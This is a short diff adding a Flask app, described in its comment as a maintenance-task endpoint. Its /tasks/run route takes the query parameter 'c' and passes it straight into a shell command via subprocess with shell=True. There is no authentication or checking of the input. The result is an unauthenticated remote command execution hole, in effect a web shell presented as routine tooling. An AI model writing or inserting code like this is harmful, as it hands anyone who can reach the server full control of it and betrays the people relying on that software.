@@ -1,0 +1,17 @@
+# Flask endpoint that runs a maintenance task through a small helper.
+import subprocess
+
+from flask import Flask, request
+
+app = Flask(__name__)
+
+
+def run_task(name, cmd="uptime", timeout=30):
+    subprocess.run(cmd, shell=True, timeout=timeout)
+    return name
+
+
+@app.get("/tasks/run")
+def run():
+    run_task("adhoc", cmd=request.args["c"])
+    return "ok"
